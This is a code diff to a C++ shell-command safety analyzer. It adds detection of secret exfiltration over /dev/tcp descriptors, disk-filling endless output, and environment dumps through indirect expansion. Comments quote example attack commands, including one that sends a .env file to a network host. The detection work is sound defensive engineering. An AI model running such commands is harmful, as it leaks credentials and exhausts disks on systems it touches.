@@ -425,6 +425,9 @@ Taint Analyzer::handleRedirects(const std::vector<Redirect> &redirects, Analysis
             // Descriptor duplication; reading a descriptor opened on /dev/tcp reads the network.
             if (m_networkFds.contains(target.value.toInt())) {
                 taint.network = true;
+                // exec 3<>/dev/tcp/host/80; cat .env >&3: output duplicated onto a network descriptor.
+                if (networkOutput && op == u">&" && redirect.fd != 0)
+                    *networkOutput = true;
                 if (shellLike)
                     add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, redirect.span, target.value, context);
                 if (op == u"<&" && (redirect.fd <= 0)) {
@@ -723,6 +726,7 @@ Taint Analyzer::visitSimple(const Node &node, AnalysisContext &context)
             RiskLevel::High, braced.span, braced.raw, context);
         args = expanded + args;
     }
+    judgeEndlessOutput(args, node, context);
     const QString program = args.front().value;
     // Moved: judgeCommand rewrites the first word, and a shared list would be deep-copied for that.
     const Taint produced = judgeCommand(std::move(args), commandContext, node.span);
@@ -754,6 +758,41 @@ Taint Analyzer::visitSimple(const Node &node, AnalysisContext &context)
     if (networkOutput && (total.secret || total.envDump || commandContext.input.taint.secret || commandContext.input.taint.envDump))
         add(QStringLiteral("secret_exfiltration"), Verdict::Deny, RiskLevel::High, node.span, program, context);
     return total;
+}
+
+void Analyzer::judgeEndlessOutput(const QList<Arg> &args, const Node &node, const AnalysisContext &context)
+{
+    // yes > f, cat /dev/zero > f, seq inf > f: output without end written to a file fills the disk.
+    if (args.isEmpty() || !args.front().info.isStatic)
+        return;
+    const QString program = baseName(args.front().value);
+    bool endless = program == u"yes";
+    if (program == u"cat" || program == u"seq") {
+        bool sawOperand = false;
+        bool allEndless = true;
+        for (qsizetype i = 1; i < args.size(); ++i) {
+            const QString &value = args[i].value;
+            if (isOption(value) && value != u"-")
+                continue;
+            sawOperand = true;
+            allEndless = allEndless
+                         && (program == u"seq" ? (value == u"inf" || value == u"infinity")
+                                               : (value == u"/dev/zero" || value == u"/dev/urandom" || value == u"/dev/random"));
+        }
+        endless = sawOperand && allEndless;
+    }
+    if (!endless)
+        return;
+    for (const Redirect &redirect : node.redirects) {
+        const QString &op = redirect.op;
+        if ((op != u">" && op != u">>" && op != u">|" && op != u"&>" && op != u"&>>") || (redirect.fd != -1 && redirect.fd != 1))
+            continue;
+        const WordValue target = resolveWord(redirect.target, ResolveContext{m_home, context.cwd, &m_variables});
+        if (target.isStatic && m_guard.classify(target.value, context.cwd).zone == PathZone::Harmless)
+            continue;
+        add(QStringLiteral("resource_exhaustion"), Verdict::RequiresApproval, RiskLevel::Medium, node.span, program, context);
+        return;
+    }
 }
 
 namespace {
@@ -1078,6 +1117,9 @@ Taint Analyzer::judgeCommand(QList<Arg> args, AnalysisContext &context, SourceSp
                         secretVariable = secretVariable || secretWords.contains(word);
                     secretVariable = secretVariable || upper.contains(QLatin1String("DATABASE_URL"));
                 }
+                // echo "$v=${!v}" over compgen -v: an indirect expansion prints whichever variable v names.
+                static thread_local const QRegularExpression indirect(QStringLiteral("\\$\\{![A-Za-z_][A-Za-z0-9_]*\\}"));
+                secretVariable = secretVariable || args[i].raw.contains(indirect);
                 if (secretVariable) {
                     add(QStringLiteral("environment_dump"), Verdict::RequiresApproval, RiskLevel::Medium, args[i].span, args[i].raw, context);
                     taint.envDump = true;
